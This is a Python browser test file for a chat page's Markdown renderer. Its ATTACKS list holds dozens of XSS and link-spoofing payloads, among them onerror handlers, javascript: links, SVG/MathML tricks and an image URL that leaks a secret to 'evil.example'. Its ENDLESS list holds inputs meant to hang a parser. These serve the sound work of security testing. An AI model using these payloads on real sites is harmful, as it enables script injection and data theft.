"""The page Chat in Chromium: answers as Markdown, what hostile ones may do, and how the page keeps up."""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from console_site import Site, console_site
from real_browser import RealBrowser, Watched

pytestmark = [pytest.mark.full, pytest.mark.timeout(600)]

WORDS = '{copy: "Copy", plain: "text", picture: "Picture:"}'
RENDER = f"""(text) => {{ const place = document.createElement("div"); place.append(...markdown.render(text, {WORDS}));
  return place.innerHTML; }}"""
GROW = f"""(text) => {{ const place = document.createElement("div"), show = markdown.growing(place, {WORDS});
  for (let end = 1; end <= text.length; end += 3) show(text.slice(0, end));
  show(text); return place.innerHTML; }}"""
SHOW = f"""(texts) => {{
  const names = new Set(("P H3 UL OL LI STRONG EM DEL CODE PRE SPAN DIV BUTTON A BDI BR HR BLOCKQUOTE TABLE THEAD " +
    "TBODY TR TH TD").split(" "));
  const may = new Set("class href rel target type tabindex start".split(" ")), wrong = [];
  const thread = document.querySelector(".thread");
  for (const text of texts) {{
    const place = document.createElement("div");
    place.className = "md";
    thread.append(place);
    place.append(...markdown.render(text, {WORDS}));
    for (const one of place.querySelectorAll("*")) {{
      if (one.namespaceURI.endsWith("MathML")) continue;
      if (!names.has(one.tagName)) wrong.push(one.tagName);
      for (const {{ name }} of one.attributes) if (!may.has(name)) wrong.push(`${{one.tagName}} ${{name}}`);
      if (one.href && !/^(https?|mailto):/.test(one.href)) wrong.push(one.href);
      if (one.href && !one.textContent.includes(one.href)) wrong.push(`hidden ${{one.href}}`);
    }}
    for (const one of place.querySelectorAll("math *")) for (const {{ name }} of one.attributes)
      if (!"stretchy fence width class movablelimits accent linethickness".split(" ").includes(name)) wrong.push(name);
  }}
  return [wrong, thread.querySelectorAll(".md").length];
}}"""
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></mtext><mglyph><svg><style><img src=x onerror=alert(1)></style></svg></mglyph></math>",
    "</template></code></pre><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/console/log-out)",
    "[https://bank.example](https://evil.example/bank.example)",
    "[x](https://bank.example@evil.example/)",
    "[x](https://evil.example/\u202emoc.knab)",
    "[x](https://bаnk.example/)",
    '[x](https://evil.example" onmouseover="alert(1))',
    '[x](https://evil.example "a\' onclick=alert(1) b")',
    "<javascript:alert(1)> <https://evil.example/<script>>",
    "https://evil.example/'onmouseover='alert(1)",
    "![x](https://evil.example/x.png)",
    "![x](https://evil.example/?q=SECRET \"t\")",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](https://evil.example/x.svg)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "```js\" onmouseover=\"alert(1)\nalert(1)\n```",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n"
    "| <svg onload=alert(1)> | ![x](https://evil.example/x) |",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\begin{array}{<script>}<svg onload=alert(1)>&x\\end{array}$$",
    "\\(\\includegraphics{https://evil.example/x.png}\\)",
    "\\[\\url{javascript:alert(1)} \\style{background:url(https://evil.example)}{x}\\]",
    "$\\htmlClass{x}{\\htmlData{onclick=alert(1)}{y}}$",
    "$\\class{x}\\cssId{y}{z}\\unicode{x3c}$",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[^1]: <script>alert(1)</script>",
    "$\\begin{constructor}x\\end{constructor}$ $$\\begin{__proto__}x\\end{__proto__}$$",
)  # fmt: skip
AROUND = ("{}", "- item\n  > quote **{}**", "# {}\n\n1. {}", "> | a |\n> |---|\n> | {} |\n\n~~~\n{}")
"""What an attack stands in."""
ENDLESS = tuple(
    piece * (100_000 // len(piece))
    for piece in (
        "*", "**a ", "_a*", "`", "``a`", "[", "[a](", "![", "<", "https://", "$", "$a", "\\(", "|", "|-|\n", "> ", "- ",
        "  ", "#", "~~", "\\[\n", "```\n", "1. a\n", "{", "$$\\left(", "a|b\n-|-\n",
    )
)  # fmt: skip
ENDLESS += tuple(f"{mark} {' ' * 50_000}{'x' * 50_000}{end}" for mark in "-#" for end in "\u2028\u2029")
ENDLESS += ("a".join("`" * run for run in range(1, 446)),)
"""Answers of 100,000 characters on which a careless parser takes minutes."""
MANY = 200


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with socket.create_server(("127.0.0.1", 0)) as held:
        port = held.getsockname()[1]
    with console_site(tmp_path_factory.mktemp("chat-site"), port=port) as opened:
        yield opened


@contextmanager
def chat_of(
    site: Site, browser: RealBrowser, role: str = "developer", script: str = "", **more: Any
) -> Iterator[Watched]:
    """Yield the page Chat of a person. `script`: run before those of the page."""
    base = f"http://127.0.0.1:{site.port}"
    with browser.page(base, **more) as one:
        one.page.context.add_cookies([{"name": "who", "value": site.keys[role], "url": base}])
        if script:
            one.page.add_init_script(script)
        one.open("/chat?left=chat")
        yield one


CASES = {
    "# Hi **b**": '<h3 class="l1">Hi <strong>b</strong></h3>',
    "a *b* `c_d` ~~e~~ f_g_h 2 * 3": "<p>a <em>b</em> <code>c_d</code> <del>e</del> f_g_h 2 * 3</p>",
    "***a*** \\*b\\*": "<p><strong><em>a</em></strong> *b*</p>",
    "- a\n  - b\n- c": "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>",
    "3. a\n4. b": '<ol start="3"><li>a</li><li>b</li></ol>',
    "- [x] a": "<ul><li>☑ a</li></ul>",
    "> a\n> > b": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>",
    "|a|b|\n|:-|-:|\n|`x|y`|2|": '<div class="wide" tabindex="0"><table><thead><tr><th>a</th>'
    '<th class="end">b</th></tr></thead><tbody>'
    '<tr><td><code>x|y</code></td><td class="end">2</td></tr></tbody></table></div>',
    "```python\nif x: # y\n```": '<div class="block"><div class="block-head"><span>python</span>'
    '<button class="btn quiet sm copy" type="button">Copy</button></div>'
    '<pre tabindex="0"><code><span class="k">if</span> x: <span class="c"># y</span></code></pre></div>',
    "It costs $5 and $6.": "<p>It costs $5 and $6.</p>",
    "$x^2$": '<p><math aria-label="x^2"><mrow><msup><mi>x</mi><mrow><mn>2</mn></mrow></msup></mrow></math></p>',
    "$\\nonesuch{x}$": '<p><code class="tex">\\nonesuch{x}</code></p>',
    "a\nb": "<p>a<br>b</p>",
    "---": "<hr>",
}  # fmt: skip
LONG = """## Plan

Read the **file**, then `parse` it:

```python
def parse(text: str) -> list[str]:
    # one line at a time
    return [line.strip() for line in text.splitlines() if line]
```

1. First, $a^2 + b^2 = c^2$
2. Then
   - a list
   - of two

| a | b |
|---|--:|
| 1 | 2 |

$$\\sum_{i=1}^{n} x_i = \\begin{pmatrix}1 & 2\\\\3 & 4\\end{pmatrix}$$

> Done.
"""


def test_markdown_is_shown_as_what_it_means_and_grows_into_the_same(site: Site, browser: RealBrowser) -> None:
    with chat_of(site, browser) as one:
        for text, shown in CASES.items():
            assert one.page.evaluate(RENDER, text) == shown
            assert one.page.evaluate(GROW, text) == shown
        assert one.page.evaluate(GROW, LONG) == one.page.evaluate(RENDER, LONG)


def test_no_hostile_answer_runs_loads_or_hides_an_address(site: Site, browser: RealBrowser) -> None:
    texts = [around.replace("{}", attack) for attack in ATTACKS for around in AROUND]
    with chat_of(site, browser) as one:
        wrong, shown = one.page.evaluate(SHOW, texts)
        assert wrong == [] and shown == len(texts) >= MANY
        one.page.wait_for_timeout(300)
        one.check()
    print(f"\n{shown} hostile texts in Markdown, links, pictures, SVG and formulas: none ran")


@pytest.mark.parametrize("text", ENDLESS, ids=lambda text: repr(text[:8]))
def test_no_answer_hangs_the_page(site: Site, browser: RealBrowser, text: str) -> None:
    with chat_of(site, browser) as one:
        one.page.evaluate(RENDER, text)


def said(text: str) -> str:
    """Return a script in which each question gets an answer, four characters at a time."""
    return (
        f"const answer = {json.dumps(text)};"
        + """
const ask = window.fetch;
window.fetch = async (at, init) => {
  if (!String(at).endsWith("ask")) return ask(at, init);
  const made = (event) => JSON.stringify({ id: "chatcmpl-1", choices: [], ...event });
  const line = (event) => new TextEncoder().encode(`data: ${made(event)}\\n\\n`);
  let from = 0;
  return new Response(new ReadableStream({ async pull(to) {
    if (init.signal.aborted) { to.error(new DOMException("", "AbortError")); return; }
    if (from >= answer.length) {
      to.enqueue(line({ usage: { prompt_tokens: 9, completion_tokens: answer.length / 4 } }));
      to.close();
      return;
    }
    to.enqueue(line({ choices: [{ delta: { content: answer.slice(from, from + 4) } }] }));
    from += 4;
    if (window.wait !== 0) await new Promise((go) => setTimeout(go, window.wait ?? 4));
  } }), { headers: { "x-request-id": "req_1", "x-ashore-release": "chat-1" } });
};"""
    )


def test_the_end_stays_in_view_until_the_reader_scrolls_up(site: Site, browser: RealBrowser) -> None:
    at_end = """() => { const one = document.querySelector(".thread");
      return one.scrollHeight - one.clientHeight - one.scrollTop < 30; }"""
    with chat_of(site, browser, script=said(LONG * 30)) as one:
        one.page.locator("#prompt").fill("Tell me.")
        one.page.locator("#prompt").press("Enter")
        one.page.locator(".md .block").nth(3).wait_for()
        assert one.page.evaluate(at_end) and one.page.locator("#stop").is_visible()
        box = one.page.locator("#stop").bounding_box()
        assert box["y"] + box["height"] < 900, "Stop is in the window"
        one.page.locator(".thread").hover()
        one.page.mouse.wheel(0, -600)
        one.page.locator("#end").wait_for()
        before = one.page.evaluate("document.querySelector('.thread').scrollTop")
        one.page.locator(".md .block").nth(8).wait_for(state="attached")
        assert one.page.evaluate("document.querySelector('.thread').scrollTop") == before
        one.page.locator("#end").click()
        one.page.wait_for_function(at_end)
        one.page.locator("#stop").click()
        one.page.get_by_role("alert").get_by_text("Stopped.").wait_for()
        assert one.violations() == []


def test_a_question_is_edited_asked_again_and_compared(site: Site, browser: RealBrowser) -> None:
    with chat_of(site, browser) as one:
        one.page.locator("#prompt").fill("First")
        one.page.locator("#file").set_input_files(
            [
                {"name": "a.txt", "mimeType": "text/plain", "buffer": b"inside"},
                {"name": "b.bin", "mimeType": "x/y", "buffer": b"\0\1"},
            ]
        )
        one.page.get_by_text("b.bin was left out").wait_for()
        one.page.get_by_role("button", name="Send").click()
        one.page.get_by_text("first token").wait_for()
        assert "inside" in one.page.locator(".said.model .md").inner_text(), "the model has read the file"
        one.page.get_by_role("button", name="Edit the question").click()
        one.page.locator(".edit textarea").fill("Second")
        one.page.locator("#right").select_option("chat-next")
        one.page.get_by_role("button", name="Ask again").click()
        one.page.locator(".metrics").nth(1).get_by_text("first token").wait_for()
        assert [name.split()[0] for name in one.page.locator(".by").all_inner_texts()] == ["chat", "chat-next"]
        assert "First" not in one.page.locator(".thread").inner_text()
        one.page.get_by_role("button", name="Answer again").first.click()
        one.page.locator("#send:visible").wait_for()
        assert one.page.locator(".turn").count() == 1 and one.page.locator(".said.model").count() == 2


def test_a_conversation_is_kept_opened_renamed_saved_and_deleted(site: Site, browser: RealBrowser) -> None:
    with chat_of(site, browser, "model-owner", script=said(LONG)) as one:
        one.page.locator("#prompt").fill("What is the plan?")
        one.page.locator("#file").set_input_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"line one"})
        one.page.locator(".files li").wait_for()
        one.page.get_by_role("button", name="Send").click()
        one.page.get_by_text("first token").wait_for()
        shown = one.page.locator(".md").inner_html()
        one.page.locator("#kept a[aria-current]").get_by_text("What is the plan?").wait_for()
        one.page.locator("#acts summary").click()
        one.page.get_by_label("Title").fill("The plan")
        one.page.get_by_role("button", name="Rename").click()
        one.page.locator("#kept a").get_by_text("The plan").wait_for()
        one.page.reload()
        one.page.locator(".md .block").wait_for()
        assert one.page.locator(".md").inner_html() == shown
        assert one.page.locator(".by").inner_text() == "chat · chat-1"
        assert one.page.locator(".you pre").text_content() == "line one"
        assert one.violations() == []
        one.page.locator("#acts summary").click()
        with one.page.expect_download() as download:
            one.page.get_by_role("button", name="Save as Markdown").click()
        text = Path(download.value.path()).read_text(encoding="utf-8")
        assert download.value.suggested_filename == "The plan.md"
        assert "line one" in text and "return [line.strip()" in text
        one.page.get_by_role("button", name="Delete the conversation").click()
        one.page.get_by_role("button", name="Delete it for good?").click()
        one.page.locator("#kept a").wait_for(state="detached")
        one.page.reload()
        assert one.page.locator(".turn").count() == 0 and "?c=" not in one.page.url
    with chat_of(site, browser, "model-owner", expected=("Failed to load resource",)) as one:
        one.open("/chat?c=conv_0123456789abcdef0123456789abcdef")
        one.page.locator("#status").get_by_text("there is no conversation").wait_for()


FRAMES = """() => { window.gaps = []; let last = 0;
  const step = (now) => { if (last) gaps.push(now - last); last = now; requestAnimationFrame(step); };
  requestAnimationFrame(step); }"""
ANSWER = (LONG * 20)[:8_000]
"""About 2,000 tokens, with code."""


def test_an_answer_of_2000_tokens_streams_without_dropped_frames(site: Site, browser: RealBrowser) -> None:
    """The best of three, as other processes share this machine."""
    seen = []
    for _ in range(3):
        with chat_of(site, browser, script=said(ANSWER)) as one:
            one.page.locator("#prompt").fill("Tell me.")
            one.page.evaluate(FRAMES)
            one.page.locator("#prompt").press("Enter")
            one.page.get_by_text("first token").wait_for()
            gaps = one.page.evaluate("gaps")
            usual = sorted(gaps)[len(gaps) // 2]
            seen.append(sum(round(gap / usual) - 1 for gap in gaps) / (sum(gaps) / usual))
        if seen[-1] < 0.05:
            break
    print(f"\nframes dropped while 2,000 tokens streamed: {', '.join(f'{one:.1%}' for one in seen)}")
    assert min(seen) < 0.05
